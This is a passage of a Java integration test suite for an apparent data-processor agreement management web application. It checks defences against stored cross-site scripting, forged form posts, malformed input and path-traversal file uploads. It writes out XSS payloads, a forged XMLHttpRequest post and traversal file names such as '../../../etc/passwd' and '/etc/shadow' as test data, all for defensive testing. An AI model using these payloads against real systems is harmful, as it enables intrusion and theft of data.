            counts.put("audit by " + role, count(api, "api/audit?size=1&actor=" + role.toLowerCase()));
        }
        return counts;
    }

    /** The value at the pointer; null when JSON-B left the field out (it omits nulls). */
    private static String pointer(JsonObject object, String pointer) {
        jakarta.json.JsonPointer at = jakarta.json.Json.createPointer(pointer);
        if (!holds(at, object)) {
            return null;
        }
        jakarta.json.JsonValue value = at.getValue(object);
        return value instanceof jakarta.json.JsonString s ? s.getString() : String.valueOf(value);
    }

    private static String shown(String value) {
        if (value == null) {
            return "null";
        }
        String visible = value.length() > 60 ? value.substring(0, 60) + "…(" + value.length() + ")" : value;
        return visible.chars().mapToObj(c -> c < 32 ? "\\u%04x".formatted(c) : String.valueOf((char) c))
                .reduce("", String::concat);
    }

    /** Sets a flag when it runs; each field carries another variant, so a failure names the way in. */
    static String payload(String field) {
        return "<img src=x onerror=\"window.xss='" + field + "'\"><script>window.xss='" + field + "'</script>";
    }

    @Test
    void noScriptStoredInAFreeTextFieldRunsOnAnyPage() {
        Api api = new Api(base);
        Api.Reply processor = api.post("api/processors", "procurement", """
                {"name":%s,"country":"NL","address":%s,"services":[%s],"riskTier":"LOW",
                 "contacts":[{"name":%s,"role":%s,"email":"xss@example.nl","phone":"+31 20 123 4567"}]}"""
                .formatted(json(payload("name") + Api.freshKvk()), json(payload("address")), json(payload("service")),
                        json(payload("contact")), json(payload("role"))));
        assertEquals(201, processor.status(), processor::toString);
        long id = processor.json().getJsonNumber("id").longValue();
        Api.Reply agreement = api.post("api/agreements", "procurement", """
                {"processorId":%d,"reference":%s,"purposes":["e"],"dataCategories":["contact"],
                 "dataSubjects":["customers"],"countries":["NL"],
                 "checklist":[{"clause":"A_INSTRUCTIONS","present":true,"reference":%s,"note":%s},
                              {"clause":"B_CONFIDENTIALITY","present":false,"waiverReason":%s}]}"""
                .formatted(id, json(payload("reference")), json(payload("clause")),
                        json(payload("note")), json(payload("waiver"))));
        assertEquals(201, agreement.status(), agreement::toString);
        long agreementId = agreement.json().getJsonNumber("id").longValue();

        String forged = "Forged " + Api.freshKvk();
        try (Browser browser = new Browser(base, "en")) {
            browser.open("login.xhtml").logIn("procurement", Api.PASSWORD);
            for (String page : List.of("processors/list.xhtml", "processors/view.xhtml?id=" + id,
                    "processors/edit.xhtml?id=" + id, "agreements/list.xhtml?processorId=" + id,
                    "agreements/view.xhtml?id=" + agreementId, "agreements/edit.xhtml?id=" + agreementId)) {
                browser.open(page);
                assertTrue(browser.pageText().contains("onerror"), () -> page + " shows the payload as text");
                assertEquals(null, browser.script("return window.xss || null;"), () -> page + " ran a script");
            }

            // a forged form post from the logged-in browser, without the page's view state, changes nothing
            browser.open("processors/edit.xhtml");
            String post = "var x = new XMLHttpRequest(); x.open('POST', 'edit.xhtml', false);"
                    + " x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');"
                    + " x.send('processor=processor&processor%%3Aname=%s&processor%%3Acountry_input=NL"
                    + "&processor%%3Asave=processor%%3Asave"
                    + "&jakarta.faces.ViewState=' + encodeURIComponent(%s)); return x.status;";
            browser.script(post.formatted(forged.replace(' ', '+'), "'forged'"));
            assertEquals(0, processorsNamed(api, forged), "a post without the page's view state is refused");

            // the same post with the view state the page handed out is what a person's save sends: it is stored
            String genuine = "Genuine " + Api.freshKvk();
            browser.script(post.formatted(genuine.replace(' ', '+'),
                    "document.querySelector(\"input[name='jakarta.faces.ViewState']\").value"));
            assertEquals(1, processorsNamed(api, genuine), "the control: the same post with the view state is stored");
        }
    }

    private static int processorsNamed(Api api, String name) {
        return api.get("api/processors?q=" + name.replace(' ', '+'), "auditor").json().getInt("total");
    }

    @Test
    void malformedRequestsAreRefusedAsProblemsNamingTheField() throws IOException {
        Api api = new Api(base);
        long processor = api.post("api/processors", "procurement", "{\"name\":\"Malformed %s\",\"country\":\"NL\"}"
                .formatted(Api.freshKvk())).json().getJsonNumber("id").longValue();
        String engagement = """
                {"processorId":%s,"description":"d","businessOwner":"o","purposes":%s,"dataCategories":["contact"],
                 "dataSubjects":["customers"],"countries":["NL"],"startsOn":%s}""";
        Map<String, String> named = new LinkedHashMap<>();
        named.put("startsOn", engagement.formatted(processor, "[\"e\"]", "\"31-12-2026\""));
        named.put("purposes", engagement.formatted(processor, "[\"no-such-purpose\"]", "\"2026-12-31\""));
        named.put("processorId", engagement.formatted(-1, "[\"e\"]", "\"2026-12-31\""));
        named.put("processorId ", engagement.formatted("99999999999999999999999", "[\"e\"]", "\"2026-12-31\""));
        List<String> wrong = new ArrayList<>();
        named.forEach((field, body) -> {
            Api.Reply reply = api.post("api/engagements", "procurement", body);
            if (reply.status() != 400 || !reply.contentType().startsWith("application/problem+json")
                    || !reply.body().contains("\"field\":\"" + field.strip())) {
                wrong.add(field + ": " + reply);
            }
        });
        Api.Reply agreement = api.post("api/agreements", "procurement", """
                {"processorId":%d,"reference":"DPA-N","noticePeriodDays":-5,"renewalTermMonths":99999999999}"""
                .formatted(processor));
        if (agreement.status() != 400 || !agreement.contentType().startsWith("application/problem+json")) {
            wrong.add("negative and huge numbers: " + agreement);
        }
        for (String broken : List.of("{\"name\": ", "[1,2", "not json at all", "{\"name\":\"x\",}", "\u0000")) {
            Api.Reply reply = api.post("api/processors", "procurement", broken);
            if (reply.status() != 400 || !reply.contentType().startsWith("application/problem+json")) {
                wrong.add("malformed " + broken + ": " + reply);
            }
        }
        for (String list : List.of("processors", "agreements", "engagements", "evidence", "alerts", "audit", "users",
                "deletions")) {
            Api.Reply far = api.get("api/" + list + "?page=10737419&size=200", "admin");
            if (far.status() != 400 || !far.body().contains("\"field\":\"page\"")) {
                wrong.add("a page beyond any list of " + list + ": " + far);
            }
        }
        // the names a client may use instead of Java's "No enum constant eu.art28...": issue 20
        Api.Reply unresolved = api.get("api/alerts?status=UNRESOLVED", "auditor");
        if (unresolved.status() != 400 || !unresolved.body().contains("\"field\":\"status\"")
                || !unresolved.body().contains("OPEN, ACKNOWLEDGED, RESOLVED") || unresolved.body().contains("eu.art28")) {
            wrong.add("an unknown status: " + unresolved);
        }
        Api.Reply tier = api.post("api/processors", "procurement", "{\"name\":\"Tier\",\"country\":\"NL\","
                + "\"riskTier\":\"EXTREME\"}");
        if (tier.status() != 400 || !tier.body().contains("\"field\":\"riskTier\"")
                || !tier.body().contains("LOW, MEDIUM, HIGH")) {
            wrong.add("an unknown risk tier: " + tier);
        }
        Api.Reply plain = api.send("POST", "api/processors", "procurement", "text/plain",
                "name=x".getBytes(StandardCharsets.UTF_8));
        if (plain.status() != 415) {
            wrong.add("wrong content type: " + plain);
        }
        assertEquals(List.of(), wrong);

        long evidence = api.post("api/evidence", "procurement", """
                {"processorId":%d,"type":"PENTEST_REPORT","issuer":"Tester","scope":"All","issuedOn":"%s"}"""
                .formatted(processor, java.time.LocalDate.now())).json().getJsonNumber("id").longValue();
        for (String name : List.of("../../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "a/../../b.pdf")) {
            Api.Reply upload = api.put("api/evidence/" + evidence + "/document?fileName="
                    + java.net.URLEncoder.encode(name, StandardCharsets.UTF_8), "procurement", "application/pdf",
                    "%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
            assertTrue(upload.status() == 200 || upload.status() == 201 || upload.status() == 400, upload::toString);
            if (upload.status() < 300) {
                String stored = api.get("api/evidence/" + evidence, "auditor").json().getJsonObject("currentDocument")
                        .getString("fileName");
                assertFalse(stored.contains("/") || stored.contains("\\") || stored.contains(".."),
                        () -> name + " stored as " + stored);
            }
        }
    }
}
